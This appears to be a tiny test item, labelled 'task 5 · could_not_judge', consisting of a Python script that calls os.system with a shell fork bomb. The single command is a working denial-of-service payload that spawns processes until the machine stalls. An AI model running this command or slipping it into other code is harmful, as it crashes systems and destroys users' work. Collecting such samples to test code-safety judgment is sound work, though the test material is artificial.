"""A fork bomb of the shell's."""
# task 5 · could_not_judge · os.system
import os

os.system("b() { b | b & }; b")
